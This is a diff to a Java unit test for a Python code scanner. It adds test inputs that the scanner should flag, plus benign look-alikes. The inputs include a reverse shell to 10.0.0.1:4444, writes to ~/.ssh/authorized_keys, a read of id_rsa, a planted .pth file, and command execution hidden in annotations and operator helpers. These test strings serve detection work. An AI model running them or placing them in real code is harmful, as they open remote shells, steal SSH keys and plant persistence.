@@ -115,7 +115,17 @@ class PythonScannerTest {
                 "import os\ntry:\n    pass\nexcept Exception:\n    os.system('id')\n",
                 "import os\n[os.system(c) for c in ['id']]\n",
                 "import socket, os, pty\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
-                "open('/home/ana/.ssh/authorized_keys', 'a').write('x')\n"
+                "open('/home/ana/.ssh/authorized_keys', 'a').write('x')\n",
+                "import pathlib\np = pathlib.Path.home() / '.ssh' / 'authorized_keys'\np.open('a').write('x')\n",
+                "from pathlib import Path\n(Path.home() / '.ssh' / 'config').write_text('x')\n",
+                "import os\nopen(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()\n",
+                "import site\nopen(site.getusersitepackages() + '/a.pth', 'w').write('x')\n",
+                "class A:\n    x: __import__('os').system('id') = 1\n",
+                "import os\ndef f(x: os.system('id')):\n    pass\n",
+                "import os\ndef f() -> os.system('id'):\n    pass\n",
+                "import operator, os\noperator.methodcaller('system', 'id')(os)\n",
+                "import operator, os\noperator.attrgetter('system')(os)('id')\n",
+                "import torch.utils.cpp_extension as c\nc.load_inline('x', ['int f() { return system(\"id\"); }'])\n"
             })
     void what_runs_on_import_is_dangerous(String source) {
         assertThat(read(source).rules()).as(source).contains("python/dangerous-call");
@@ -151,10 +161,26 @@ class PythonScannerTest {
                 "import subprocess\ndef f():\n    subprocess.run('id', shell=True)\n",
                 "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])\n",
                 "import ctypes\nlib = ctypes.CDLL('./x.so')\n",
-                "def f(code):\n    exec(code)\n"
+                "def f(code):\n    exec(code)\n",
+                "@exec\ndef f():\n    pass\n",
+                "import webbrowser\nwebbrowser.open('http://h.example/?x=1')\n",
+                "import importlib\ndef f(n):\n    importlib.import_module(n).system('id')\n"
             })
     void what_a_function_runs_is_risky(String source) {
         assertThat(read(source).rules()).as(source).containsExactly("python/risky-call");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "from __future__ import annotations\nimport os\ndef f(x: os.system('id')):\n    pass\n",
+                "import torch.utils.cpp_extension as c\nc.load_inline('x', ['at::Tensor f(at::Tensor x) { return x; }'])\n",
+                "from pathlib import Path\n(Path(__file__).parent / 'vocab.txt').read_text()\n",
+                "import operator\nnames = list(map(operator.attrgetter('name'), models))\n",
+                "import importlib\ndef f(n):\n    return importlib.import_module(n).run(1)\n"
+            })
+    void what_only_looks_like_it_is_not_told(String source) {
+        assertThat(read(source).rules()).as(source).isSubsetOf("python/noted-call");
     }
 
     @ParameterizedTest
